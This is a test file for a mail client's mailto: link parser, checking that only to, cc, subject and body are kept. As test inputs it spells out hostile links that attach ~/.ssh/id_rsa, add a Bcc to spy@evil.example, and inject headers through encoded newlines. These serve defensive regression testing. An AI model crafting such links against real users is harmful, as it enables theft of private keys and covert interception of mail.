import { describe, expect, it } from 'vitest';
import { mailtoFields } from '../../../app/domain/mailto';

// Issue 21, class 6: a mailto: link in a mail went to the system opener with all its parameters
// (?attach=/home/user/.ssh/id_rsa). Rule: it opens Postbote's own composer with only to, cc,
// subject and body taken.

describe('mailto: links from mail', () => {
  it('keep only to, cc, subject and body', () => {
    expect(mailtoFields('mailto:ann@example.org?attach=/home/user/.ssh/id_rsa&bcc=spy@evil.example&subject=Hi%20there&body=Line%201%0ALine%202&cc=bob@example.org&X-Header=1')).toEqual({
      to: ['ann@example.org'],
      cc: ['bob@example.org'],
      subject: 'Hi there',
      body: 'Line 1\nLine 2',
    });
  });

  it('read recipients from the path and from to=, and drop anything that is no address', () => {
    expect(mailtoFields('mailto:a@example.org,b@example.org?to=c@example.org&cc=not-an-address')).toMatchObject({ to: ['a@example.org', 'b@example.org', 'c@example.org'], cc: [] });
    expect(mailtoFields('mailto:a@example.org%0ABcc:spy@evil.example')).toBeUndefined();
    expect(mailtoFields('https://example.org')).toBeUndefined();
  });

  it('keep a subject to one line', () => {
    expect(mailtoFields('mailto:a@example.org?subject=x%0D%0ABcc:%20spy@evil.example')?.subject).toBe('x Bcc: spy@evil.example');
  });
});
